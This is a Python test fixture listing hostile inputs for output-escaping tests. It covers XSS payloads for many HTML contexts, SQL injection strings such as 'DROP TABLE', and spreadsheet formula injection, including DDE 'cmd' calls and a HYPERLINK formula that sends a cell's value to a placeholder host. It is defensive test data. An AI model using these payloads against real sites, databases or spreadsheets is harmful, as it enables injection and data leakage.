"""Our own corpus of hostile text: script injection in every context a page or export could put
typed text in (element content, attributes, URLs, CSS, SVG, templates), SQL, spreadsheet
formulas, and text that only looks odd. Written for these tests; none of it copied from a list.

Each payload that would do something if it reached a page unescaped calls `pwned()`, an alert, a
confirm or a print dialog, or loads something (which the CSP reports), so that a browser test sees
it happen.
"""

SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(2)</SCRIPT>",
    "<script src=/static/pwned.js></script>",
    "<scr<script>ipt>alert(3)</scr</script>ipt>",
    "</textarea><script>alert(4)</script>",
    "</title><script>alert(5)</script>",
    "</p><script>confirm(6)</script><p>",
    "<script>/*</script><script>*/alert(7)</script>",
    "<<script>alert(8)//<</script>",
    "<script>print()</script>",
]

ATTRIBUTES = [
    '"><script>alert(11)</script>',
    "'><script>alert(12)</script>",
    '" onmouseover="alert(13)" x="',
    "' onfocus='alert(14)' autofocus='",
    '" autofocus onfocus="alert(15)',
    "<img src=x onerror=alert(16)>",
    "<img src=x onerror='alert(17)'>",
    '<img src="x" onerror="alert&#40;18&#41;">',
    "<svg onload=alert(19)>",
    "<svg><script>alert(20)</script></svg>",
    "<body onload=alert(21)>",
    "<input autofocus onfocus=alert(22)>",
    "<details open ontoggle=alert(23)>",
    "<video><source onerror=alert(24)></video>",
    "<audio src=x onerror=alert(25)>",
    "<marquee onstart=alert(26)>hello</marquee>",
    "<iframe srcdoc='<script>alert(27)</script>'></iframe>",
    '<div style="background:url(javascript:alert(28))">x</div>',
    "<style>@import 'javascript:alert(29)';</style>",
    '<object data="javascript:alert(30)"></object>',
]

URLS = [
    '<a href="javascript:alert(31)">tap here</a>',
    '<a href="JaVaScRiPt:alert(32)">tap</a>',
    '<a href="jav&#x09;ascript:alert(33)">tap</a>',
    '<a href="data:text/html,<script>alert(34)</script>">tap</a>',
    "javascript:alert(35)",
    '<form action="javascript:alert(36)"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(37)">',
    '<base href="javascript:alert(38)//">',
    '<link rel="stylesheet" href="javascript:alert(39)">',
    '<embed src="javascript:alert(40)">',
]

ENCODED = [
    "&lt;script&gt;alert(41)&lt;/script&gt;",
    "%3Cscript%3Ealert(42)%3C/script%3E",
    "\\u003cscript\\u003ealert(43)\\u003c/script\\u003e",
    "<!--<script>alert(44)</script>-->",
    "<![CDATA[<script>alert(45)</script>]]>",
    "{{ 7*7 }}{% debug %}",
    "${alert(47)}`${alert(47)}`",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(48)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(49)>">',
    '<template><script>alert(50)</script></template><div id="x">',
]

INJECTION = [
    "'; DROP TABLE surveys_response; --",
    '" OR 1=1 --',
    "1; SELECT pg_sleep(5); --",
    '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\tTAB=1+1",
    "\r\n=1+1",
]

# What ordinary people type, which must come back exactly as typed.
ORDINARY = [
    "I <3 my foster carer & her dog",
    "Fish & chips on Fridays > school dinners",
    "5 < 7 and that's OK",
    'Tom & Jerry\'s "best" bits',
    "AT&T; &amp; is how you write an ampersand",
]

HOSTILE = SCRIPT + ATTRIBUTES + URLS + ENCODED + INJECTION
assert len(HOSTILE) >= 50
